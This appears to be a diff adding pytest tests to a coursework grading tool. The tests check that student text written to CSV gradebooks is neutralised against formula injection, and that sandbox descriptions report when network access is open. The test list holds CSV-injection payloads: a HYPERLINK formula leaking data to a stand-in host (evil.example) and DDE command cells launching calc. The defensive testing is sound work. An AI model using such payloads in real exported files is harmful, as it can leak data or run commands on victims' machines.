@@ -584,3 +584,60 @@ def test_crafted_notebooks_are_invalid_not_a_crash(tmp_path: Path) -> None:
         path.write_text(text)
         nb, why = read_notebook(path)
         assert nb is None and why, name
+
+
+FORMULAS = [  # the cells of issue 22 (6), and the characters some programs also run
+    '=HYPERLINK("http://evil.example/?leak","click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "  =1+1",
+    "\t=1+1",
+    "\r\n=1+1",
+]
+
+
+def test_csv_cells_from_student_text_never_start_a_formula(tmp_path: Path) -> None:
+    """Issue 22 (6): every student message reaches results.csv inert."""
+    import csv
+
+    from coursework.grading.report import neutral, write_gradebook
+
+    exercises = [
+        ExerciseResult(f"e{i}", Status.ERROR, 0.0, 1.0, 0.0, text)
+        for i, text in enumerate(FORMULAS)
+    ]
+    write_gradebook(
+        tmp_path, [Record("s1", "ab", exercises)], [e.exercise for e in exercises]
+    )
+    with open(tmp_path / "results.csv", newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    assert [r["message"] for r in rows] == ["'" + t for t in FORMULAS]
+    for name in ("grades.csv", "results.csv", "summary.csv"):
+        with open(tmp_path / name, newline="", encoding="utf-8") as f:
+            for row in csv.reader(f):
+                for cell in row:
+                    assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t"))
+    assert neutral("-0.5 points") == "'-0.5 points"
+    assert neutral("name 'x' is not defined") == "name 'x' is not defined"
+
+
+def test_network_is_announced_when_open() -> None:
+    """--network: the isolation line, on screen and in every feedback, says so."""
+    from coursework.grading.probe import Isolation
+
+    closed = Isolation("landlock", 7, True, namespaces=True)
+    opened = Isolation("landlock", 7, True, namespaces=True, network=True)
+    assert "no network" in closed.describe() and "--network" not in closed.describe()
+    assert "network open (--network)" in opened.describe()
+    assert "no network" not in opened.describe()
+    process = Isolation("process", 0, network=True)
+    assert process.describe().endswith("network open (--network)")
+    command = wrap(
+        ["true"], Limits(isolation="landlock", namespaces=True, network=True), Path("/")
+    )
+    assert "--network" in command
+    closed_command = wrap(
+        ["true"], Limits(isolation="landlock", namespaces=True), Path("/")
+    )
+    assert "--network" not in closed_command
